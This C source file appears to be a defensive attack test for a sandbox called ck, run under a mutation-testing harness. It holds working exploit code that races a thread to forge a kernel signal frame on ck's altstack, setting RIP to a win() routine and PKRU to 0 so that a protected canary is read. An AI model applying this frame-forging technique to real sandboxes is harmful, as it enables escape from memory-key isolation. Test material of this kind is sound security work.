// SPDX-License-Identifier: Apache-2.0
/*
 * intratk MODE: attacks on ck's nested entry (shim/guest/intr.c), where a
 * signal or a fault comes while a thread is already in ck.
 *   copyfault  ck copies program memory that faults (a pointer past the
 *              end of a file mapping: SIGBUS): the call must fail with
 *              EFAULT, as Linux's; in a fork child, the ORACLE is that
 *              child killed (or the call not failing)
 *   altstack   thread A blocks in read(2) on a pipe (a forwarded,
 *              interruptible call) while the main thread sends it SIGUSR1
 *              again and again, and thread B rewrites the frame the
 *              kernel puts on A's altstack for that signal (found from
 *              A's SIGSYS frames there): RIP to win(), RSP to B's stack,
 *              PKRU 0 in the xsave area. A ck that resumed through that
 *              frame (mutant INTR_SIGRETURN) runs win() with every key
 *              open: it reads ck_canary (the ORACLE) and exits
 *   unarmed    the same with a SIGSEGV sent (tgkill) while A blocks in
 *              recvmmsg, a forwarded call ck does not arm: nothing may
 *              resume ck there (the real ck ends the process: ck_abort,
 *              as A has a SIGSEGV handler); a ck that deferred the signal
 *              and resumed through the frame (mutant UNARMED_SIGRETURN,
 *              or UNARMED_DEFER_MT, which defers beside other threads)
 *              runs win(). Short tries: a deferral gives one chance.
 */
#define _GNU_SOURCE
#include <cpuid.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ATK_NAME "intratk"
#include "atk.h"

#define PAGE		4096UL
#define CANARY		0x63616e6172794b21ULL

/* ---- copyfault ---- */

static int copyfault_child(void)
{
	char path[] = "/tmp/intratk.XXXXXX";
	int fd = mkstemp(path);
	char *m;
	long r1, r2;

	if (fd < 0 || ftruncate(fd, PAGE))
		return 2;
	unlink(path);
	m = mmap(0, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (m == MAP_FAILED)
		return 2;
	/* ck checks the range (mapped, readable), then copies: SIGBUS. */
	r1 = syscall(SYS_rt_sigprocmask, SIG_BLOCK, m + PAGE, 0, 8);
	r2 = syscall(SYS_rt_sigprocmask, SIG_BLOCK, 0, m + PAGE, 8);
	printf("copyfault: %ld %ld\n", r1, r2);
	return r1 == -1 && r2 == -1 && errno == EFAULT ? 0 : 1;
}

static int copyfault(void)
{
	int st;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid == 0)
		_exit(copyfault_child());
	if (pid < 0 || waitpid(pid, &st, 0) != pid)
		return 2;
	if (WIFSIGNALED(st))
		atk_say("ORACLE", "a fault in ck's copy window killed the "
			"process (signal %d)", WTERMSIG(st));
	else if (WEXITSTATUS(st))
		atk_say("ORACLE", "the faulting copy did not fail with EFAULT "
			"(exit %d)", WEXITSTATUS(st));
	else
		atk_say("blocked", "the faulting copies failed with EFAULT");
	return 0;
}

/* ---- altstack ---- */

#define BUDGET_S	20	/* the whole attack; run.sh allows 60 s */
#define UC_SIZE		304	/* the kernel's struct ucontext */
#define MC_OFF		40	/* uc_mcontext in it */

static volatile int forge, forging, calm, handled, a_tid, done;
uint64_t canary_addr;
static int pipefd[2];
extern const char a_read_ret[], a_recv_ret[];
static int unarmed;		/* the mode: recvmmsg and SIGSEGV */
static const char *a_ret;	/* A's syscall's return address */

/*
 * Runs only if a forged frame was restored: PKRU 0, ck's stack and
 * registers. No stack use: exit 42 if ck_canary was read, 43 if not.
 */
void win(void);
__asm__(".text\n"
	"win:\n"
	"	movq canary_addr(%rip), %rax\n"
	"	movq (%rax), %rax\n"
	"	movabsq $0x63616e6172794b21, %rcx\n"
	"	movl $43, %edi\n"
	"	cmpq %rcx, %rax\n"
	"	jne 1f\n"
	"	movl $42, %edi\n"
	"1:	movl $231, %eax\n"	/* exit_group: the selector is ALLOW */
	"	syscall\n"
	"	ud2\n");

static void on_usr1(int sig)
{
	(void)sig;
	handled++;
	/*
	 * No syscall (a SIGSYS frame) while B forges. A second SIGUSR1 sent
	 * in the same round runs this again after the round: done lets it
	 * go when the rounds are over.
	 */
	while (!calm && !done)
		;
	calm = 0;
}

/*
 * This thread on CPU cpu alone (the VM has two): B must run beside A, not
 * after it, to rewrite the frame between the kernel's writing it and ck's
 * reading it back. Without a second CPU, the try goes on as it may.
 */
static void pin(int cpu)
{
	unsigned long mask = 1UL << cpu;

	syscall(SYS_sched_setaffinity, 0, sizeof(mask), &mask);
}

/* A: one read of a byte, a raw syscall whose return address B knows. */
static void *victim(void *arg)
{
	long r;
	char c;

	(void)arg;
	pin(0);
	a_tid = (int)syscall(SYS_gettid);
	if (unarmed) {
		struct iovec iov = { &c, 1 };
		struct mmsghdr mm;

		memset(&mm, 0, sizeof(mm));
		mm.msg_hdr.msg_iov = &iov;
		mm.msg_hdr.msg_iovlen = 1;
		register long r10 __asm__("r10") = 0;
		register long r8 __asm__("r8") = 0;
		__asm__ volatile("syscall\n"
				 ".globl a_recv_ret\n"
				 "a_recv_ret:"
				 : "=a"(r)
				 : "0"((long)SYS_recvmmsg), "D"((long)pipefd[0]),
				   "S"(&mm), "d"(1L), "r"(r10), "r"(r8)
				 : "rcx", "r11", "memory");
		return (void *)r;
	}
	__asm__ volatile("syscall\n"
			 ".globl a_read_ret\n"
			 "a_read_ret:"
			 : "=a"(r)
			 : "0"((long)SYS_read), "D"((long)pipefd[0]), "S"(&c),
			   "d"(1L)
			 : "rcx", "r11", "memory");
	return (void *)r;
}

/*
 * A's SIGSYS frame on one of the 64 KiB anonymous rw mappings of pkey 0
 * (smaps's ProtectionKey, where the kernel has pkeys): ck's altstacks.
 */
static uint8_t *find_frame(void)
{
	FILE *f = fopen("/proc/self/smaps", "r");
	uint64_t lo[64], hi[64], p;
	int n = 0, i, cand = 0, pk;
	char line[256];

	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		unsigned long a, b;
		char perm[8];

		if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) == 3 &&
		    strchr(line, '-') < strchr(line, ' ')) {
			cand = b - a == 0x10000 && !strcmp(perm, "rw-p") &&
			       strstr(line, " 00:00 0") && n < 64;
			if (cand) {
				lo[n] = a;
				hi[n++] = b;
			}
			continue;
		}
		if (cand && sscanf(line, "ProtectionKey: %d", &pk) == 1 && pk)
			n--;	/* ck's own memory: reading it would fault */
	}
	fclose(f);
	for (i = 0; i < n; i++)
		for (p = hi[i] - 128; p >= lo[i] + UC_SIZE; p -= 8) {
			const int32_t *si = (const int32_t *)p;

			if (si[0] == SIGSYS && si[2] == 2 &&
			    *(const uint64_t *)(p + 16) == (uint64_t)a_ret)
				return (uint8_t *)p - UC_SIZE;
		}
	return 0;
}

static uint8_t *uc;
static unsigned int pkru_off;

static void *forger(void *arg)
{
	uint64_t *mc = (uint64_t *)(uc + MC_OFF), fp;

	(void)arg;
	pin(1);
	for (;;) {
		while (!forge)
			;
		forging = 1;
		/* PKRU, then RIP (a frame caught half-way may just go on). */
		while (forge) {
			fp = mc[23];
			if (fp && pkru_off)
				*(volatile uint32_t *)(fp + pkru_off) = 0;
			((volatile uint64_t *)mc)[16] = (uint64_t)win;
		}
		forging = 0;
	}
	return 0;
}

static struct timespec t_start;

static int expired(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec - t_start.tv_sec >= BUDGET_S;
}

static void ms(long n)
{
	struct timespec t = { 0, n * 1000000L };

	nanosleep(&t, 0);
}

static int altstack_child(void)
{
	unsigned int a, b, c, d;
	struct sigaction sa;
	pthread_t ta, tb;
	void *ret;
	int round, tries, h;

	canary_addr = env_addr("CK_CANARY");
	pin(0);		/* main and A on CPU 0, B on CPU 1 */
	if (__get_cpuid_count(0xd, 9, &a, &b, &c, &d))
		pkru_off = b;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_usr1;
	sa.sa_flags = SA_RESTART;	/* the read goes on after each handler */
	sigaction(unarmed ? SIGSEGV : SIGUSR1, &sa, 0);
	if ((unarmed ? socketpair(AF_UNIX, SOCK_DGRAM, 0, pipefd) :
		       pipe(pipefd)) || pthread_create(&ta, 0, victim, 0))
		return 2;
	/* A blocks in its read (its SIGSYS frame is there from its entry). */
	for (tries = 0; tries < (unarmed ? 200 : 1) && !(uc = find_frame());
	     tries++)
		ms(unarmed ? 2 : 200);
	if (!uc) {
		fprintf(stderr, "intratk: A's frame not found\n");
		return 2;
	}
	if (pthread_create(&tb, 0, forger, 0))
		return 2;
	/*
	 * unarmed: a SIGSEGV in ck ends the process (ck_abort), or is
	 * deferred (then blocked until A's call returns: no second chance),
	 * or resumed through the frame as it is: short tries, as many as
	 * the budget allows.
	 */
	if (unarmed) {
		forge = 1;
		while (!forging)
			;
		for (tries = 0; tries < 50; tries++) {
			syscall(SYS_tgkill, getpid(), a_tid, SIGSEGV);
			ms(2);
		}
		_exit(0);
	}
	for (round = 0; !expired(); round++) {
		h = handled;
		forge = 1;
		for (tries = 0; tries < 200 && handled == h && !expired();
		     tries++) {
			syscall(SYS_tgkill, getpid(), a_tid,
				unarmed ? SIGSEGV : SIGUSR1);
			ms(2);
		}
		forge = 0;
		while (forging)
			;
		calm = 1;
		if (handled == h)
			break;
		while (calm)	/* the handler has returned */
			;
	}
	done = 1;
	if (write(pipefd[1], "x", 1) != 1)
		return 2;
	pthread_join(ta, &ret);
	atk_say("try", "%d signals ended A's read (%d handled), each nested "
		"frame rewritten; the read returned %ld", round, (int)handled,
		(long)ret);
	return 0;
}

/* Tries for BUDGET_S, each a fork child (a half-forged frame can kill one). */
static int altstack(void)
{
	int i, st, killed = 0;
	pid_t pid;

	clock_gettime(CLOCK_MONOTONIC, &t_start);
	for (i = 0; !expired(); i++) {
		fflush(stdout);
		pid = fork();
		if (pid == 0) {
			alarm(BUDGET_S + 10);	/* a hang is a failure */
			_exit(altstack_child());
		}
		if (pid < 0 || waitpid(pid, &st, 0) != pid)
			return 2;
		if (WIFEXITED(st) && WEXITSTATUS(st) == 42) {
			atk_say("ORACLE", "ck resumed a forged nested frame: "
				"ck_canary read with PKRU 0 (try %d)", i + 1);
			return 0;
		}
		if (WIFEXITED(st) && WEXITSTATUS(st) == 2)
			return 2;
		if (WIFSIGNALED(st) && WTERMSIG(st) == SIGALRM) {
			fprintf(stderr, "intratk: try %d hung for %d s\n",
				i + 1, BUDGET_S + 10);
			return 2;
		}
		if (WIFSIGNALED(st))
			killed = WTERMSIG(st);
	}
	atk_say("blocked", "%d tries in %d s, no forged frame resumed (last "
		"killed by signal %d)", i, BUDGET_S, killed);
	return 0;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	setvbuf(stdout, 0, _IONBF, 0);
	if (!strcmp(mode, "copyfault"))
		return copyfault();
	a_ret = a_read_ret;
	if (!strcmp(mode, "altstack"))
		return altstack();
	if (!strcmp(mode, "unarmed")) {
		unarmed = 1;
		a_ret = a_recv_ret;
		return altstack();
	}
	fprintf(stderr, "intratk: bad mode: %s\n", mode);
	return 2;
}
